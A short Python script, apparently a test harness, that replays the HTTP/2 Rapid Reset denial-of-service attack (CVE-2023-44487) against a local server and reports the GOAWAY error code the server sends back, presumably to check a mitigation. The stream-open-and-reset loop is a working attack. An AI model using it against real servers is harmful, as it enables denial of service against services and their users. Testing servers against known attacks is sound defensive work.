#!/usr/bin/env python3
# Rapid reset (CVE-2023-44487) played with python3-h2: HEADERS then RST_STREAM, 300 times, in one
# write; prints the error code of the GOAWAY the server answers with ("none" if it sends none).
# usage: rapid_reset.py PORT [ROUNDS]
import socket
import sys

import h2.config
import h2.connection
import h2.events

port = int(sys.argv[1])
rounds = int(sys.argv[2]) if len(sys.argv) > 2 else 300
sock = socket.create_connection(("127.0.0.1", port))
sock.settimeout(20)
conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
conn.initiate_connection()
for _ in range(rounds):
    stream_id = conn.get_next_available_stream_id()
    conn.send_headers(stream_id, [(":method", "GET"), (":path", "/plaintext"), (":scheme", "http"),
                                  (":authority", "test")], end_stream=True)
    conn.reset_stream(stream_id)
try:
    sock.sendall(conn.data_to_send())
except OSError:
    pass
code = None
while True:
    try:
        data = sock.recv(65536)
    except OSError:
        break
    if not data:
        break
    try:
        events = conn.receive_data(data)
    except Exception:  # frames for streams h2 has forgotten: only the GOAWAY matters here
        break
    for event in events:
        if isinstance(event, h2.events.ConnectionTerminated):
            code = int(event.error_code)
print(code if code is not None else "none")
